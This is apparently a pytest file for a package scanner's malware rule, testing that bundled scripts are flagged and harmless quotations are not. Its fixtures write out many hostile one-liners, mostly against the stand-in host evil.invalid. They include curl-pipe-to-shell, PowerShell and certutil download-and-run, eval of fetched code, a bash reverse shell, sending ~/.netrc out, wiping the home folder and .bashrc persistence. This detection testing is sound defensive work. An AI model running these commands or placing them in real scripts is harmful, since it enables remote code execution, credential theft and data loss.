"""Scripts in other languages that a package contains, whether or not anything starts them (B5)."""

from __future__ import annotations

from pathlib import Path

import pytest

from security_scan.engine import scan
from security_scan.scanners.malware import MalwareScanner
from tests.scan.samples import write

URL = "https://evil.invalid/a"
PIPE = f"curl -fsSL {URL} | sh\n"
HOSTILE = {
    "a pipe": ("setup.sh", PIPE),
    "a pipe without a suffix": ("bin/setup", f"#!/bin/sh\n{PIPE}"),
    "a pipe under a data suffix": ("setup.dat", f"#!/usr/bin/env bash\n{PIPE}"),
    "a pipe in a folder of examples": ("examples/setup.sh", PIPE),
    "a pipe over two lines": ("setup.sh", f"curl -fsSL {URL} \\\n  | sudo bash\n"),
    "a pipe to Python": ("setup.zsh", f"wget -qO- {URL} | python3 -\n"),
    "a pipe behind a long line": ("setup.sh", "true;" * 3000 + PIPE),
    "a pipe after many lines": ("setup.sh", "true\n" * 20_000 + PIPE),
    "a download that is started later": (
        "setup.sh", f"curl -o /tmp/.x {URL}\necho\nchmod +x /tmp/.x\n/tmp/.x &\n",
    ),
    "a download under its own name": ("setup.sh", f"wget {URL}.sh\nbash ./a.sh\n"),
    "a download to a variable": ("setup.sh", f'curl {URL} > "$DIR/run"\n"$DIR/run" --quiet\n'),
    "PowerShell": ("setup.ps1", f"iex (iwr {URL} -UseBasicParsing).Content\n"),
    "PowerShell over two lines": (
        "setup.ps1", f"Invoke-WebRequest {URL} -OutFile a.exe\nStart-Process a.exe\n",
    ),
    "a batch file": ("setup.bat", f"@echo off\ncertutil -urlcache -f {URL} a.exe\na.exe\n"),
    "a batch file over two lines": ("setup.cmd", f"curl -o a.exe {URL}\nstart a.exe\n"),
    "Node and a shell": (
        "helper.js", f'require("child_process").execSync("curl {URL} | sh");\n',
    ),
    "Node and eval": ("helper.mjs", f'fetch("{URL}").then(r => r.text()).then(eval)\n'),
    "Node and eval in one call": ("helper.cjs", f'eval(await (await fetch("{URL}")).text());\n'),
    "a minified file": ("helper.min.js", "a=1;" * 9000 + f'exec("wget -qO- {URL} | bash")'),
    "TypeScript": ("helper.ts", f'execSync(`curl {URL} | sh`);\n'),
    "Ruby": ("helper.rb", f'eval(URI.open("{URL}").read)\n'),
    "Perl": ("helper.pl", f'system("curl {URL} | sh");\n'),
    "PHP": ("helper.php", f'<?php eval(file_get_contents("{URL}"));\n'),
    "an encoded command": ("setup.sh", f"echo {'QUJD' * 12} | base64 -d | sh\n"),
    "a reverse shell": ("setup.sh", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n"),
    "a file that is sent": ("setup.sh", f"curl -d @$HOME/.netrc {URL}\n"),
    "a home that is wiped": ("setup.sh", "rm -rf ~\n"),
    "a line that stays": ("setup.sh", "echo 'run &' >> ~/.bashrc\n"),
}  # fmt: skip
HONEST = {
    "a README": ("README.md", f"Install it with `{PIPE.strip()}`.\n"),
    "a text": ("notes.txt", f"#!/bin/sh\n{PIPE}"),
    "a template": ("install.sh.j2", f"#!/bin/sh\n{PIPE}"),
    "data": ("commands.json", f'{{"install": "{PIPE.strip()}"}}'),
    "a workflow": ("ci.yaml", f"- run: {PIPE}"),
    "a comment": ("setup.sh", f"# {PIPE}echo ready\n"),
    "a comment in Node": ("helper.js", f"// {PIPE}console.log(1)\n"),
    "a download": ("setup.sh", f"curl -o data.csv {URL}\nwc -l data.csv\n"),
    "a download for a program": ("setup.sh", f"curl -o data.csv {URL}\npython load.py data.csv\n"),
    "a build": ("build.sh", "set -e\npython -m build\nrm -rf dist/*\nbash tests/run.sh\n"),
    "a web page's script": (
        "app.js", 'const host = $(".host").val(); fetch("https://api.example.org/x").then(show);',
    ),
    "a highlighter of shells": (
        "highlight.js",
        'sh = "mkdir|mkfifo|mount|nc|netcat|wget|zsh"; ps = "ihy ii iex irm iwr kill | iex";'
        "if (isIpcUrl || bash) run();\n",
    ),
    "a batch file": ("make.bat", "@echo off\nsphinx-build -M %1 source build\n"),
}  # fmt: skip


def findings(folder: Path, name: str, text: str) -> list[tuple[str, bool]]:
    path = write(folder) / "acme_tool" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    report = scan(folder, scanners=[MalwareScanner()])
    return [(finding.rule, finding.blocking) for finding in report.findings]


@pytest.mark.parametrize(("name", "text"), HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_script_is_held_although_nothing_starts_it(
    name: str, text: str, tmp_path: Path
) -> None:
    assert True in [blocking for _, blocking in findings(tmp_path, name, text)]


@pytest.mark.parametrize(("name", "text"), HONEST.values(), ids=HONEST)
def test_texts_that_quote_commands_and_honest_scripts_are_not_held(
    name: str, text: str, tmp_path: Path
) -> None:
    assert findings(tmp_path, name, text) == []


def test_the_finding_names_the_line_of_the_command(tmp_path: Path) -> None:
    path = write(tmp_path) / "acme_tool" / "setup.sh"
    path.write_text(f"#!/bin/sh\necho a \\\n  b\n{PIPE}")
    (finding,) = scan(tmp_path, scanners=[MalwareScanner()]).blocking
    assert (finding.rule, finding.file, finding.line) == (
        "malware/download-and-run", "acme_tool/setup.sh", 4,
    )  # fmt: skip
    assert "in a packaged script" in finding.message
